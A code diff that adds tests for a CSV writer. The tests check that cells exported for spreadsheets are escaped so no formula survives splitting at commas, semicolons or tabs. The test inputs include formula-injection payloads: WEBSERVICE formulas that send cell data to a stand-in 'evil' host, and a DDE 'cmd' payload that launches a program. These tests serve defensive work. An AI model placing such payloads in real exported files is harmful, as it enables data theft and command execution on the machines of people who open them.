@@ -76,6 +76,8 @@ test('what is written is read again', () => {
   const rows = [['a,b', 'c"d', 'e\nf'], ['', ' g ', 'h;i'], ['\r', '"', '']];
   assert.deepEqual([...records(written(rows))], rows);
   assert.equal(written([['a', 'b, c']]), 'a,"b, c"\n');
+  assert.equal(written([['a;b', 'c,d', 'e']], ';'), '"a;b";c,d;e\n');
+  assert.equal(writtenForSpreadsheets([['a;b', 'c,d', 'e']], ';'), '"a;b";"c,d";e\n');
 });
 
 test('what is written for spreadsheets has no formula, and is read as it was meant', () => {
@@ -88,15 +90,28 @@ test('what is written for spreadsheets has no formula, and is read as it was mea
   assert.equal(written([['=1+1']]), '=1+1\n');
 });
 
-test('where a spreadsheet begins a new cell at a semicolon or a tab, there is no formula either', () => {
+test('where a spreadsheet begins a new cell at a comma, a semicolon or a tab, there is no formula either', () => {
   const cells = ['Foo;http://evil/?;=WEBSERVICE(B2&A3);x', 'a\t+1', '\t=1', 'a;"=1"', "a;'=1", '＝1', 'a;＠b', 'a;b', 'a; =1', "a;'b"];
   const text = writtenForSpreadsheets([['id', ...cells]]);
   assert.deepEqual([...records(text)][0].slice(1), [
     "Foo;http://evil/?;'=WEBSERVICE(B2&A3);x", "a\t'+1", "'\t'=1", 'a;\'"=1"', "a;''=1", "'＝1", "a;'＠b", 'a;b', 'a; =1', "a;'b",
   ]);
-  for (const separator of [';', '\t']) assert.deepEqual([...records(text, separator)][0].filter((cell) =>
+  for (const separator of [',', ';', '\t']) assert.deepEqual([...records(text, separator)][0].filter((cell) =>
     /^[=+\-@\t\r＝＋－＠]/.test(cell)), []);
   assert.deepEqual(table(utf8(text)).rows[0].fields.slice(1), cells);
   assert.deepEqual(cells.map(isLikeFormula), [true, true, true, true, false, true, true, false, false, false]);
   assert.deepEqual([...records(text)][0].filter(isLikeFormula), []);
+});
+
+test('of a file with semicolons, too, no separator begins a cell that is a formula', () => {
+  const cells = ["Foo,=cmd|'/C calc'!A0,x", 'Foo,http://e/?,=WEBSERVICE(B2&D2),x', 'a,"=1"', "a,'=1", 'Roe, Bea', 'a,b;-c\t@d', ',+1'];
+  const row = ['S1', ...cells, 'abcd-efgh-ijkm-npqr'];
+  for (const separator of [';', ',']) {
+    const text = writtenForSpreadsheets([row.map(() => 'name'), row], separator);
+    for (const cut of [',', ';', '\t']) {
+      const formulas = [...records(text, cut)].flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell));
+      assert.deepEqual(formulas, [], `written with ${separator}, cut at ${cut}`);
+    }
+    assert.deepEqual(table(utf8(text)).rows[1].fields, row);
+  }
 });
